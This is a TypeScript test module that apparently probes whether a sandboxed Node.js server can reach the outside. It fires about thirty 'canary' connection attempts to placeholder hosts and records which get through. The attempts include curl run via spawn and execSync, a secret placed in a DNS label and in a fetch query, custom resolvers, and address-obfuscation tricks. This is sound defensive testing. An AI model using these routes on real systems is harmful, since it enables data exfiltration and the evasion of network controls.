/**
 * Ways out of the server's own process, as a library with a fault, a forgotten call or an injected script would take them.
 * Each has a host of its own, so that its row on the ledger can be told from the others.
 */
import childProcess from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import net from 'node:net';
import tls from 'node:tls';
import { Worker } from 'node:worker_threads';
import { Client, EventSource as UndiciEventSource, request as undiciRequest } from 'undici';

/** A machine that is not this one: an address of its own on which the proof listens, or nobody's. */
const sink = process.env.CANARY_SINK ?? '192.0.2.1';
const port = Number(process.env.CANARY_PORT ?? 9);

export interface CanaryResult {
  readonly name: string;
  /** Part of the host, name or command of its row on the ledger. */
  readonly trace: string;
  /** `out` when it got through. */
  readonly outcome: string;
}

/** Resolves with how a socket, request or stream ended. */
function ended(thing: NodeJS.EventEmitter, opened: string): Promise<string> {
  return new Promise((resolve) => {
    thing.on('error', (error: { code?: string; message: string }) => resolve(error.code ?? error.message));
    thing.on(opened, () => resolve('out'));
  });
}
const codeOf = (error: unknown): string => {
  const { code, cause, message } = error as { code?: string; cause?: { code?: string }; message: string };
  return cause?.code ?? code ?? message;
};
const settled = (work: Promise<unknown>): Promise<string> => work.then(() => 'out', codeOf);
const asked = (ask: (done: (error: Error | null) => void) => void): Promise<string> =>
  new Promise((resolve) => ask((error) => resolve(error ? codeOf(error) : 'out')));

type Canary = readonly [name: string, trace: string, fly: () => Promise<string> | string];

const canaries: readonly Canary[] = [
  ['net.connect to an address', `net|${sink}`, () => ended(net.connect(port, sink), 'connect')],
  [
    'net.Socket to a name',
    'c02.example',
    () => ended(new net.Socket().connect({ host: 'c02.example', port }), 'connect'),
  ],
  [
    'net.connect with a look-up of its own',
    `net|${sink}`,
    () =>
      ended(
        net.connect({
          host: 'c03.example',
          port,
          lookup: (_h, o, d) => (o.all ? d(null, [{ address: sink, family: 4 }]) : d(null, sink, 4)),
        }),
        'connect',
      ),
  ],
  ['tls.connect', 'c04.example', () => ended(tls.connect(port, 'c04.example'), 'secureConnect')],
  ['http.request', 'c05.example', () => ended(http.get(`http://c05.example:${port}/`), 'response')],
  [
    'https.request with an agent of its own',
    'c06.example',
    () => ended(https.get({ host: 'c06.example', port, agent: new https.Agent({ keepAlive: true }) }), 'response'),
  ],
  ['http2.connect', 'c07.example', () => ended(http2.connect(`https://c07.example:${port}`), 'connect')],
  ['fetch', 'c08.example', () => settled(fetch(`http://c08.example:${port}/?secret=1`))],
  [
    'WebSocket',
    'c09.example',
    () =>
      new Promise((resolve) => {
        const socket = new WebSocket(`ws://c09.example:${port}/`);
        socket.onopen = () => resolve('out');
        socket.onerror = () => resolve('refused');
      }),
  ],
  [
    'EventSource',
    'c10.example',
    () =>
      new Promise((resolve) => {
        const source = new UndiciEventSource(`http://c10.example:${port}/`);
        const end = (outcome: string) => {
          source.close();
          resolve(outcome);
        };
        source.onopen = () => end('out');
        source.onerror = () => end('refused');
      }),
  ],
  ['undici through the global dispatcher', 'c11.example', () => settled(undiciRequest(`http://c11.example:${port}/`))],
  [
    'undici with a client of its own',
    'c12.example',
    () => {
      const client = new Client(`http://c12.example:${port}`);
      return settled(client.request({ path: '/', method: 'GET' })).finally(() => client.destroy());
    },
  ],
  ['a datagram', `dgram|${sink}`, () => asked((done) => dgram.createSocket('udp4').send('secret', port, sink, done))],
  ['a tied datagram socket', `dgram|${sink}`, () => ended(tied(), 'connect')],
  [
    'joining a multicast group',
    '239.1.2.3',
    () => {
      const socket = dgram.createSocket('udp4');
      socket.addMembership('239.1.2.3');
      return 'out';
    },
  ],
  [
    'a secret in a DNS label',
    'c16-secret',
    () => asked((done) => dns.lookup('c16-secret.exfil.example', (error) => done(error))),
  ],
  ['a DNS TXT question', 'c17.example', () => settled(dns.promises.resolveTxt('c17.example'))],
  [
    'a resolver with servers of its own',
    'c18.example',
    () => {
      const resolver = new dns.promises.Resolver({ timeout: 200, tries: 1 });
      resolver.setServers([`${sink}:${port}`]);
      return settled(resolver.resolve4('c18.example'));
    },
  ],
  [
    'curl as a child',
    'curl',
    () => ended(childProcess.spawn('curl', ['-s', '-m', '2', `http://${sink}:${port}/`]), 'spawn'),
  ],
  [
    'a shell, waited for',
    'c20.example',
    () => {
      childProcess.execSync(`curl -s -m 2 http://${sink}:${port}/c20.example`);
      return 'out';
    },
  ],
  [
    'this runtime with a text of its own',
    process.execPath,
    () => ended(childProcess.fork('-e', ['1'], { execArgv: [] }), 'spawn'),
  ],
  [
    'a thread',
    'a text',
    () => ended(new Worker(`require('net').connect(${port}, ${JSON.stringify(sink)})`, { eval: true }), 'online'),
  ],
  [
    'native code: socket() of the C library',
    'koffi',
    async () => {
      const { default: koffi } = await import('koffi');
      const socket = koffi.load(null).func('int socket(int family, int type, int protocol)');
      return socket(2, 1, 0) >= 0 ? 'out' : 'refused';
    },
  ],
  [
    'an inner binding of Node',
    'tcp_wrap',
    () => {
      (process as unknown as { binding(name: string): unknown }).binding('tcp_wrap');
      return 'out';
    },
  ],
  [
    'a name of this machine that a look-up sends elsewhere',
    'localhost',
    () =>
      ended(
        net.connect({
          host: 'localhost',
          port,
          lookup: (_h, o, d) => (o.all ? d(null, [{ address: sink, family: 4 }]) : d(null, sink, 4)),
        }),
        'connect',
      ),
  ],
  ['an IPv6 address', '2001:db8::25', () => ended(net.connect(port, '2001:db8::25'), 'connect')],
  ['an IPv4 address inside an IPv6 one', `::ffff:${sink}`, () => ended(net.connect(port, `::ffff:${sink}`), 'connect')],
  ['a name with a dot at its end', 'c28.example', () => ended(net.connect(port, 'c28.example.'), 'connect')],
  ['an international name', 'xn--', () => settled(fetch(`http://exämple.example:${port}/`))],
  ['a number that is an address', '3221225', () => ended(net.connect(port, '3221225985'), 'connect')],
];

function tied(): dgram.Socket {
  const socket = dgram.createSocket('udp4');
  socket.connect(port, sink);
  return socket;
}

/** Sets each free, one after the other. */
export async function runCanaries(): Promise<CanaryResult[]> {
  const results: CanaryResult[] = [];
  for (const [name, trace, fly] of canaries) {
    const late = new Promise<string>((resolve) => setTimeout(() => resolve('no answer'), 5_000).unref());
    const outcome = await Promise.race([Promise.resolve().then(fly).catch(codeOf), late]);
    results.push({ name, trace, outcome });
  }
  return results;
}
